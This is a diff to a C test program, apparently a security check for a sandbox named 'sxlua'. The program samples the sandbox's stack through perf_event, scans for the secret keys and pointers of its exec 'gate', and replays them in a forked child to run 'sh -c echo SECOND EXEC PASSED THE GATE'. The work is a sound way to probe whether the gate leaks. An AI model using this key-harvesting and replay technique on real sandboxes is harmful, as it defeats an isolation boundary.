@@ -21,7 +21,7 @@
 #include <unistd.h>
 #include <asm/perf_regs.h>
 
-enum { CPUS = 64, RING_PAGES = 256, MAX_FOUND = 16 };
+enum { CPUS = 64, RING_PAGES = 256, MAX_FOUND = 16, MAX_ANON = 512 };
 
 struct range { uint64_t lo, hi; };
 struct words { uint64_t w[6]; };
@@ -49,9 +49,9 @@ static int is_sxlua(long pid) {
   return !strncmp(comm, "sxlua", 5);
 }
 
-/* sxlua's stack, and the gate's mapping: anonymous, private, rw, at most 64 KiB, at a
-** random address high in the lower half. */
-static void read_maps(long pid, struct range *stack, struct range *gate) {
+/* sxlua's stack, and every anonymous private rw mapping of sxlua's: the gate's pages are in
+** one of them (wherever sxlua puts them). */
+static void read_maps(long pid, struct range *stack, struct range *anon, int *nanon) {
   char path[64], line[512];
   FILE *f;
   snprintf(path, sizeof path, "/proc/%ld/maps", pid);
@@ -62,21 +62,40 @@ static void read_maps(long pid, struct range *stack, struct range *gate) {
     int n = 0;
     if (sscanf(line, "%lx-%lx %7s %*s %*s %*s%n", &lo, &hi, perm, &n) < 3) continue;
     if (strstr(line, "[stack]")) stack->lo = lo, stack->hi = hi;
-    else if (!strncmp(perm, "rw-p", 4) && strlen(line + n) <= 2 && hi - lo <= 0x10000 &&
-             lo >= 0x10000000000UL && lo < 0x400000000000UL)
-      gate->lo = lo, gate->hi = hi;
+    else if (!strncmp(perm, "rw-p", 4) && strlen(line + n) <= 2 && *nanon < MAX_ANON)
+      anon[(*nanon)++] = (struct range){ lo, hi };
   }
   fclose(f);
 }
 
 static int in(const struct range *r, uint64_t v) { return v >= r->lo && v < r->hi; }
 
+/* The gate's pages as six words would have them: the range from the lowest of the three
+** pointers' pages to past the highest, when all three are in one anonymous mapping and
+** within 64 KiB of each other. */
+static int gate_of(const uint64_t *w, const struct range *anon, int nanon, struct range *gate) {
+  uint64_t lo = w[0], hi = w[0];
+  for (int k = 1; k < 3; k++) {
+    if (w[k] < lo) lo = w[k];
+    if (w[k] > hi) hi = w[k];
+  }
+  if (hi - lo > 0x10000) return 0;
+  for (int i = 0; i < nanon; i++)
+    if (in(&anon[i], lo) && in(&anon[i], hi)) {
+      gate->lo = lo & ~4095UL;
+      gate->hi = (hi + 64 + 4095) & ~4095UL;
+      return 1;
+    }
+  return 0;
+}
+
 /* Six words that look like the gate's: three pointers into it, three nonzero keys. */
-static int scan(const uint64_t *w, size_t n, const struct range *gate, struct words *found, int nfound) {
+static int scan(const uint64_t *w, size_t n, const struct range *anon, int nanon,
+                struct words *found, int nfound) {
   for (size_t i = 0; i + 6 <= n && nfound < MAX_FOUND; i++) {
     int seen = 0;
-    if (!in(gate, w[i]) || !in(gate, w[i + 1]) || !in(gate, w[i + 2]) ||
-        !w[i + 3] || !w[i + 4] || !w[i + 5]) continue;
+    struct range gate;
+    if (!w[i + 3] || !w[i + 4] || !w[i + 5] || !gate_of(w + i, anon, nanon, &gate)) continue;
     for (int k = 0; k < nfound && !seen; k++) seen = !memcmp(found[k].w, w + i, sizeof found[k].w);
     if (!seen) memcpy(found[nfound++].w, w + i, sizeof found[0].w);
   }
@@ -88,7 +107,7 @@ static int scan(const uint64_t *w, size_t n, const struct range *gate, struct wo
 static int try_exec(const struct range *gate, const struct words *c) {
   pid_t pid = fork();
   int status = 0;
-  if (pid == 0) {
+  if (pid == 0) {   /* (the workload's own mappings may be there: then it cannot try) */
     static char a0[] = "sh", a1[] = "-c", a2[] = "echo SECOND EXEC PASSED THE GATE";
     char **av = (char **)c->w[1], **ev = (char **)c->w[2];
     if (mmap((void *)gate->lo, gate->hi - gate->lo, PROT_READ | PROT_WRITE,
@@ -107,17 +126,17 @@ static int try_exec(const struct range *gate, const struct words *c) {
 int main(void) {
   long parent = field_of("self", "PPid:"), agent = parent;
   char who[32];
-  struct range stack = { 0, 0 }, gate = { 0, 0 };
+  struct range stack = { 0, 0 }, anon[MAX_ANON];
   struct words found[MAX_FOUND];
-  int nfound = 0, ncpu = (int)sysconf(_SC_NPROCESSORS_ONLN), passed = 0;
+  int nanon = 0, nfound = 0, ncpu = (int)sysconf(_SC_NPROCESSORS_ONLN), passed = 0;
   size_t ring = (1 + RING_PAGES) * 4096, samples = 0, of_sxlua = 0;
   void *rings[CPUS];
   static char rec[1 << 17];
   if (ncpu > CPUS) ncpu = CPUS;
   snprintf(who, sizeof who, "%ld", parent);
   if (!is_sxlua(parent)) agent = field_of(who, "PPid:");     /* the reaper's parent */
-  read_maps(agent, &stack, &gate);
-  if (!gate.lo) { printf("no gate mapping in sxlua's maps\n"); return 2; }
+  read_maps(agent, &stack, anon, &nanon);
+  if (!nanon) { printf("no anonymous mapping in sxlua's maps\n"); return 2; }
   for (int cpu = 0; cpu < ncpu; cpu++) {
     struct perf_event_attr a;
     int fd;
@@ -162,15 +181,17 @@ int main(void) {
         dump = *(const uint64_t *)(p + 16);
         if (!dump || !in(&stack, sp)) continue;
         of_sxlua++;
-        nfound = scan((const uint64_t *)(p + 24), *(const uint64_t *)(p + 24 + dump) / 8, &gate,
-                      found, nfound);
+        nfound = scan((const uint64_t *)(p + 24), *(const uint64_t *)(p + 24 + dump) / 8, anon,
+                      nanon, found, nfound);
       }
       __atomic_store_n(&mp->data_tail, tail, __ATOMIC_RELEASE);
     }
   }
   printf("samples %zu, of sxlua's stack %zu, candidates %d\n", samples, of_sxlua, nfound);
   fflush(stdout);
-  for (int k = 0; k < nfound; k++)
-    if (try_exec(&gate, &found[k]) == 0) passed++;
+  for (int k = 0; k < nfound; k++) {
+    struct range gate;
+    if (gate_of(found[k].w, anon, nanon, &gate) && try_exec(&gate, &found[k]) == 0) passed++;
+  }
   return passed ? 1 : 0;
 }
